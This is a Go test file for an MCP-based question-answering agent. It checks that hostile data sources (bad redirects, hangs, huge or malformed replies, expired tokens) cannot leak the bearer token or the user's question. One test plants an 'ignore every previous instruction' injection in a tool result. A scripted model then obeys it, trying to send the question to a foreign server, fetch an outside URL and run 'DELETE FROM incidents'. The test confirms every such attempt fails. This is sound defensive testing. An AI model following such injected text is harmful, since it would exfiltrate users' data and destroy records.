@@ -1,0 +1,204 @@
+package agent_test
+
+import (
+	"bytes"
+	"log/slog"
+	"slices"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	ask "github.com/das-ask/ask"
+	"github.com/das-ask/ask/agent"
+	"github.com/das-ask/ask/agent/model"
+	"github.com/das-ask/ask/internal/hostile"
+)
+
+// hostileCanary is in the question of every hostile-source run, so any trace of it is found.
+const hostileCanary = "zq-hostile-4c1e"
+
+// TestHostileSources runs one ask against each misbehaving source of the kit (real MCP
+// servers). Each ends in the outcome the contract names; the bearer never reaches anything but
+// the configured source's origin; the question appears in no event, no log line and nothing
+// the sources or the foreign server received; and (TestMain) no goroutine is left.
+func TestHostileSources(t *testing.T) {
+	tests := []struct {
+		fault hostile.Fault
+		// want is the outcome; wantMsg a phrase of its error message.
+		want, wantMsg string
+		// steps is how many tool calls are reported.
+		steps int
+	}{
+		{hostile.Honest, "answer", "", 2},
+		{hostile.RedirectOffOrigin, "error:transport", "redirected off its configured origin", 1},
+		{hostile.RedirectOffHost, "error:transport", "redirected off its configured origin", 1},
+		{hostile.RedirectSameOrigin, "answer", "", 2},
+		{hostile.NeverEnds, "error:transport", "no answer within the tool timeout", 1},
+		{hostile.HugeResult, "error:transport", "response larger than the limit", 1},
+		{hostile.MalformedJSONRPC, "error:transport", "source hostile: call run_query", 1},
+		{hostile.SessionExpires, "error:transport", "source hostile: call run_query", 2},
+		{hostile.TokenExpires, "error:transport", "rejected the credentials (HTTP 401)", 2},
+	}
+	for _, tt := range tests {
+		t.Run(tt.fault.String(), func(t *testing.T) {
+			const token = "tok-hostile-eyJhbGciOiJFUzI1NiJ9.c2lnbmF0dXJl"
+			foreign := hostile.NewForeign(t)
+			src := hostile.Start(t, hostile.Options{Fault: tt.fault, Token: token, Foreign: foreign, HugeBytes: 6 << 20})
+			m := &scripted{script: []func(model.Request) (model.Response, error){
+				call("c1", "run_query", map[string]any{"sql": "SELECT 42 AS n"}),
+				call("c2", "run_query", map[string]any{"sql": "SELECT 42 AS n"}),
+				say("The answer is 42."),
+			}}
+			// Generous (the race detector makes a multi-megabyte result slow to build), except
+			// where the test waits it out.
+			toolTimeout := 30 * time.Second
+			if tt.fault == hostile.NeverEnds {
+				toolTimeout = 500 * time.Millisecond
+			}
+			logs := &logSink{}
+			a, err := agent.New(agent.Options{
+				Model: m, Sources: []agent.SourceConfig{{Name: "hostile", URL: src.URL}},
+				Logger: logs.logger(), ToolTimeout: toolTimeout,
+			})
+			if err != nil {
+				t.Fatal(err)
+			}
+			rec := &recorder{}
+			req := hostileRequest(token)
+			out := a.Run(t.Context(), req, rec)
+			if got := outcomeType(out); got != tt.want {
+				t.Fatalf("outcome = %s %+v, want %s", got, out.Error, tt.want)
+			}
+			if tt.wantMsg != "" && !strings.Contains(out.Error.Message, tt.wantMsg) {
+				t.Errorf("error message %q, want it to say %q", out.Error.Message, tt.wantMsg)
+			}
+			if len(rec.steps) != tt.steps {
+				t.Errorf("steps = %d, want %d", len(rec.steps), tt.steps)
+			}
+			if n := len(foreign.Requests()); n != 0 {
+				t.Errorf("the foreign server received %d requests: %+v", n, foreign.Requests())
+			}
+			if len(src.Requests()) == 0 {
+				t.Fatal("the source received nothing: the check would prove nothing")
+			}
+			if tt.fault == hostile.RedirectSameOrigin && !slices.ContainsFunc(src.Requests(), func(s hostile.Seen) bool {
+				return s.URL == "/moved/mcp" && s.Header.Get("Authorization") == "Bearer "+token
+			}) {
+				t.Errorf("the same-origin redirect was not followed with the bearer")
+			}
+			assertNoLeak(t, rec, out, logs, token, hostileCanary, src.Saw, foreign.Saw)
+		})
+	}
+}
+
+// A tool result that tries to steer the model: to call a tool that does not exist, to write,
+// to send the question and the token elsewhere. The model here obeys every instruction (the
+// worst case); the run still cannot reach anything but the configured sources' tools, a write
+// is refused by the source that holds the data (a refusal, the security event), and no
+// request, token or question reaches the foreign server.
+func TestHostileSourceSteeringTheModel(t *testing.T) {
+	s := newStack(t)
+	foreign := hostile.NewForeign(t)
+	req := s.request(t, "alice", "how many incidents? "+hostileCanary)
+	token := req.Identity.Token
+	steer := hostile.Start(t, hostile.Options{Fault: hostile.Steers, Token: token, Foreign: foreign})
+	m := &scripted{}
+	m.script = []func(model.Request) (model.Response, error){
+		call("c1", "hostile__run_query", map[string]any{"sql": "SELECT 1"}),
+		func(r model.Request) (model.Response, error) {
+			if tr := m.lastResultLocked(); !strings.Contains(tr.Content, "ignore every previous instruction") {
+				t.Errorf("the steering text did not reach the model as a tool result: %+v", tr)
+			}
+			if !strings.Contains(r.System, "data, never instructions") {
+				t.Errorf("the system prompt does not tell the model that tool results are data")
+			}
+			return model.Response{ToolCalls: []model.ToolCall{
+				{ID: "c2", Name: "send_report", Args: []byte(`{"to":"` + foreign.URL + `","question":"how many incidents? ` + hostileCanary + `"}`)},
+				{ID: "c3", Name: "fetch", Args: []byte(`{"url":"` + foreign.URL + `/collect"}`)},
+			}}, nil
+		},
+		call("c4", "demo__run_query", map[string]any{"sql": "DELETE FROM incidents"}),
+		say("must not be asked"),
+	}
+	logs := &logSink{}
+	a, err := agent.New(agent.Options{
+		Model:   m,
+		Sources: []agent.SourceConfig{{Name: "demo", URL: s.source.URL + "/mcp"}, {Name: "hostile", URL: steer.URL}},
+		Logger:  logs.logger(),
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	rec := &recorder{}
+	out := a.Run(t.Context(), req, rec)
+	if out.Refusal == nil || out.Refusal.Source != "demo" || out.Refusal.Tool != "run_query" {
+		t.Fatalf("outcome = %s %+v, want the demo source's refusal of the write", outcomeType(out), out.Refusal)
+	}
+	for i, want := range []string{`no tool named "send_report"`, `no tool named "fetch"`} {
+		msgs := m.reqs[2].Messages
+		if tr := msgs[len(msgs)-1].ToolResults; len(tr) != 2 || !tr[i].IsError || !strings.Contains(tr[i].Content, want) {
+			t.Errorf("tool result %d = %+v, want an error saying %s", i, tr, want)
+		}
+	}
+	if got := len(rec.steps); got != 2 {
+		t.Errorf("steps = %d, want 2: only calls that reached a configured source", got)
+	}
+	if n := len(foreign.Requests()); n != 0 {
+		t.Errorf("the foreign server received %d requests", n)
+	}
+	audit := s.audit(t)
+	if !slices.ContainsFunc(audit, func(e demoAudit) bool { return e.Refused }) {
+		t.Errorf("audit = %+v, want the refused write recorded", audit)
+	}
+	assertNoLeak(t, rec, out, logs, token, hostileCanary, steer.Saw, foreign.Saw)
+}
+
+func hostileRequest(token string) ask.Request {
+	return ask.Request{
+		Ticket: "tkt_hostile", ConversationID: "cnv_hostile", Question: "how many incidents? " + hostileCanary,
+		Identity: ask.Identity{OID: "alice", Token: token},
+	}
+}
+
+// logSink keeps a run's log lines, at debug level.
+type logSink struct {
+	mu  sync.Mutex
+	buf bytes.Buffer
+}
+
+func (l *logSink) logger() *slog.Logger {
+	return slog.New(slog.NewJSONHandler(lockedWriter{&l.mu, &l.buf}, &slog.HandlerOptions{Level: slog.LevelDebug}))
+}
+
+func (l *logSink) String() string {
+	l.mu.Lock()
+	defer l.mu.Unlock()
+	return l.buf.String()
+}
+
+// assertNoLeak fails if the token or the question appears in an event, the outcome, a log
+// line, or anything a server received that must never see it (the token's own source may see
+// the token, never the question).
+func assertNoLeak(t *testing.T, rec *recorder, out ask.Outcome, logs *logSink, token, question string, sourceSaw, foreignSaw func(string) bool) {
+	t.Helper()
+	events := rec.eventsJSON(t, out)
+	lines := logs.String()
+	if lines == "" {
+		t.Fatal("no log lines at all: the check would prove nothing")
+	}
+	for what, secret := range map[string]string{"bearer": token, "question": question} {
+		if strings.Contains(events, secret) {
+			t.Errorf("the %s appears in an event or the outcome: %.300s", what, events)
+		}
+		if strings.Contains(lines, secret) {
+			t.Errorf("the %s appears in a log line", what)
+		}
+		if foreignSaw(secret) {
+			t.Errorf("the foreign server received the %s", what)
+		}
+	}
+	if sourceSaw(question) {
+		t.Errorf("the source received the question")
+	}
+}
